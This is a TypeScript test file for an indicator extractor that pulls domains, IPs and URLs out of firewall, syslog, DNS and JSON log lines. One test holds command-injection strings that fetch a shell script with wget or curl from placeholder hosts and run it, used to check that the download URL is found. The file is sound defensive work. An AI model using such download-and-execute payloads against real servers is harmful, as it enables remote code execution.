import { findIndicators } from '../../../../../src/core/indicators/index';
import assert from 'node:assert/strict';
import { assertFound, assertNothingFound, findRaws } from './findHelpers';

describe('Finding indicators in log notations', () => {
  it('finds names below top-level domains that have no entry of their own in the list', () =>
    assertFound([
      [
        'to=<jo@a-site.co.za>, relay=mx.b-site.org.za[192.0.2.4], co.za',
        ['domain a-site.co.za', 'domain mx.b-site.org.za', 'ip 192.0.2.4'],
      ],
      ['GET https://a-site.co.za/x', ['url https://a-site.co.za/x']],
    ]));

  it('finds URLs with a shared host', () => {
    assertFound([
      ['GET https://s3.amazonaws.com/bucket/a.exe', ['url https://s3.amazonaws.com/bucket/a.exe']],
      ['hxxps://github[.]io/x, github[.]io/y', ['url https://github.io/x', 'url http://github.io/y']],
      ['"eventSource":"s3.amazonaws.com" github.io co[.]uk https://co.uk/x', []],
      ['httpbin[.]org', ['domain httpbin.org']],
    ]);
    assert.equal(findIndicators('https://s3.amazonaws.com/x')[0]?.reserved, false);
  });

  it('finds machines below registered suffixes, and cluster nodes', () =>
    assertFound([
      [
        'from ec2-192-0-2-7.compute-1.amazonaws.com, node/ip-10-0-1-5.eu-west-1.compute.internal',
        ['domain ec2-192-0-2-7.compute-1.amazonaws.com', 'domain ip-10-0-1-5.eu-west-1.compute.internal'],
      ],
    ]));

  it('distinguishes ports and prefixes after a slash', () =>
    assertFound([
      [
        'Built inbound ICMP connection for faddr 81.2.69.144/0 gaddr 81.2.69.145/9 laddr 10.10.10.11/17 type 3',
        ['ip 81.2.69.144', 'ip 81.2.69.145', 'ip 10.10.10.11'],
      ],
      ['Deny TCP from 81.2.69.144/22 to 10.1.1.1/51515 flags', ['ip 81.2.69.144', 'ip 10.1.1.1']],
      ['denied from 81.2.69.144/43803 to inside:10.1.1.1/25 flags', ['ip 81.2.69.144', 'ip 10.1.1.1']],
      ['session 10.0.0.1/594->10.0.1.5/22 0x0', ['ip 10.0.0.1', 'ip 10.0.1.5']],
      ['for outside:81.2.69.144/22 (81.2.69.145/22) to x', ['ip 81.2.69.144', 'ip 81.2.69.145']],
      ['src OUTSIDE:2a02:cf40::91f2/443 dst inside:2001:db8::5/22', ['ip 2a02:cf40::91f2', 'ip 2001:db8::5']],
      ['from 10.1.0.1/24 to 10.2.0.1/24, addr:10.1.2.3/24, inside:10.1.0.0/16, 10.1.2.3/32, 0.0.0.0/0', []],
      ['2001:db8::1/64 inet6 addr:2001:db8::1/64 2001:db8::/32 route 10.0.0.0/8->10.1.0.0/16', []],
    ]));

  it('finds addresses after the name of an interface or a host', () =>
    assertFound([
      [
        'permitted tcp inside/81.2.69.144(62157) -> outside/81.2.69.145(22) hit-cnt 1',
        ['ip 81.2.69.144', 'ip 81.2.69.145'],
      ],
      ['connect to web-1/81.2.69.144, Chrome/124.0.0.0 Reader/4.4.5.100', ['ip 81.2.69.144']],
    ]));

  it('finds both ends around an ellipsis', () =>
    assertFound([
      [
        'established between 10.0.0.1[gw.a-site.org]...81.2.69.144[b-site.org]',
        ['ip 10.0.0.1', 'domain gw.a-site.org', 'ip 81.2.69.144', 'domain b-site.org'],
      ],
    ]));

  it('ignores versions of mail servers, products, and packages', () =>
    assertNothingFound([
      'with Microsoft SMTP Server (TLS) id 14.1.225.23; Thu, 20 Sep 2012',
      'with Microsoft SMTP Server (TLS)\r\n id 8.3.245.1; Wed, 19 Sep 2012',
      'cpe:/a:acme:web_server:2.4.7.1 and cpe:2.3:a:acme:tool:1.2.3.4:*:*:*',
      'pkg:npm/left-pad@1.2.3.4 and org.acme:core-lib:2.1.3.4, org.acme:core:jar:2.1.3.4:compile',
      '{"OriginatingServer":"MAIL01 (15.20.225.32)\\n"}',
      'CN=a,2.5.4.15=Private Organization',
    ]));

  it('finds names in capitals, as Windows and registries write them', () =>
    assertFound([
      ['Computer: DC01.corp.local, MSG1.AcmeRelay.local', ['domain dc01.corp.local', 'domain msg1.acmerelay.local']],
      ['CORP.LOCAL\\jo logged on to SRV2.CORP.LOCAL', ['domain corp.local', 'domain srv2.corp.local']],
      ['hostname "Anns-MacBook-Pro.local"', ['domain anns-macbook-pro.local']],
      ['Name Server: NS1.A-SITE.INFO\nDomain Name: SITEA.INFO', ['domain ns1.a-site.info', 'domain sitea.info']],
      ['nserver:      DNS1.SITEA.IT', ['domain dns1.sitea.it']],
      ['Hello.a-site.me.\t7200\tIN\tTXT', ['domain hello.a-site.me']],
      ['select EMP.NAME, T1.ID from DB1.EMP.ID; Thread.local; LOGGER.INFO', []],
    ]));

  it('finds the hosts of Kerberos principals', () =>
    assertFound([
      [
        'krbtgt/CORP.LOCAL@CORP.LOCAL for HTTP/web1.a-site.com@A-SITE.COM',
        ['domain corp.local', 'domain corp.local', 'domain web1.a-site.com', 'domain a-site.com'],
      ],
      [
        'cifs/dc1.corp.local ldap/dc1.ad.internal/ad.internal "AnnHD/CORP.LOCAL"',
        ['domain dc1.corp.local', 'domain dc1.ad.internal', 'domain corp.local'],
      ],
      ['src/http/client.rs bin/setup.local', []],
    ]));

  it('ignores user names, units, and files', () => {
    assertNothingFound([
      'for invalid user john.li from; user=max.page; username="ann.black"; for user jo.kim port',
      'Reached target network-online.target. Stopped target multi-user.target',
      'daemon.info dnsmasq[1]: kern.info local7.info auth.info',
      "phrase in `unix-shell.data'",
      'User[ann.name]: closed; User [jo.page] in',
      'FileName: sample.com, FileType: x; {"file_name":"sample.com"} filename="sample.com"',
      'ThreatName: W32.0A1B2C3D4E-95.SBX.TG found',
    ]);
    assertFound([
      ['AD=srv@host.local, srv@data.app x', ['domain host.local', 'domain data.app']],
      ['user=a-site.com jo@mail.info', ['domain a-site.com', 'domain mail.info']],
      ['user=ann@b-site.page USER=a-site.live\\ann', ['domain b-site.page', 'domain a-site.live']],
    ]);
  });

  it('finds names in JSON strings', () =>
    assertFound(
      [
        ['{"m":"tried \\"cloud.test.com\\" as host"}', ['domain cloud.test.com']],
        [
          '{"name":"sitea.me.","ip":"8.8.8.8","host":"dns.google"}',
          ['domain sitea.me', 'ip 8.8.8.8', 'domain dns.google'],
        ],
        ['{"rdns":"pool-1.site-a.com.py","mail":"j@site-a.la"}', ['domain pool-1.site-a.com.py', 'domain site-a.la']],
        ['{"m":"64 bytes from gw.site-a.net (192.0.2.4)"}', ['domain gw.site-a.net', 'ip 192.0.2.4']],
        ['{"c":"DC.corp.local","n":"Anns-MacBook.local"}', ['domain dc.corp.local', 'domain anns-macbook.local']],
        [
          '{"socket.io":"socket.io","a":"user.name","b":"app.test.py","c":"import x from \'socket.io\'","event.code":1}',
          [],
        ],
      ],
      'json',
    ));

  it('finds the URL that a command in a request downloads', () => {
    assert.deepEqual(findRaws('GET /shell?cd+/tmp;wget+http://192.0.2.4/a.sh;sh+/tmp/a.sh HTTP/1.1'), [
      'http://192.0.2.4/a.sh',
    ]);
    assert.deepEqual(findRaws('cmd=wget+http://192.0.2.4:88/a.m+-O+/tmp/b;sh+b&x=/'), ['http://192.0.2.4:88/a.m']);
    assert.deepEqual(findRaws('?x=curl%20-s%20http://a-site.com/a%20-o%20b%3Bsh'), ['http://a-site.com/a']);
    assert.deepEqual(findRaws('curl -s http://a-site.com/a.sh.;sh'), ['http://a-site.com/a.sh']);
    assert.deepEqual(findRaws('http://192.0.2.9/?wget+http://192.0.2.4/a;sh+a'), [
      'http://192.0.2.9/?wget+http://192.0.2.4/a;sh+a',
    ]);
    assert.deepEqual(findRaws('q=see+http://a-site.com/a+b;c'), ['http://a-site.com/a+b;c']);
  });
});

describe('Finding what is written against other characters', () => {
  it('reads addresses in front of a port without brackets', () =>
    assertFound(
      [
        ['IP6 2001:db8::77.51234 > 2001:db8:1:2::9.443: Flags [P.], seq 1', ['ip 2001:db8::77', 'ip 2001:db8:1:2::9']],
        ['tcp6 0 0 2001:db8::77.51234 2001:db8::9.443 ESTABLISHED', ['ip 2001:db8::77', 'ip 2001:db8::9']],
        ['peer 2001:db8::7:51820 up, fe80::1%lo0.1024', ['ip 2001:db8::7', 'ip fe80::1']],
        ['2001:db8:1:2:3:4:5:6:443 open', ['ip 2001:db8:1:2:3:4:5:6']],
        ['at 12:34:56:12345, 10:20:30:40:50:60:70:80:443, 2001:db8::1.2.3.4', ['ip 2001:db8::102:304']],
      ],
      'log',
    ));

  it('reads what follows a color without its escape character', () =>
    assertFound(
      [
        ['[0;32m192.0.2.7[0m refused, [1mevil-site.com[m', ['ip 192.0.2.7', 'domain evil-site.com']],
        ['[5m10.evil-site.com', ['domain 5m10.evil-site.com']],
      ],
      'log',
    ));

  it('reads escapes of parameters of syslog in a URL', () =>
    assertFound(
      [['[ex@7 url="https://a-site.net/x?a=[1\\]&b=\\"2" path="1"]', ['url https://a-site.net/x?a=[1]&b=']]],
      'log',
    ));

  it('reads a hyphen as the start of a name where a name is certain', () =>
    assertFound(
      [
        ['query: -cdn.a-site.net IN A', ['domain -cdn.a-site.net']],
        ['{"query":"-cdn.a-site.net"} and -cdn.b-site.net', ['domain -cdn.a-site.net', 'domain cdn.b-site.net']],
      ],
      'log',
    ));
});
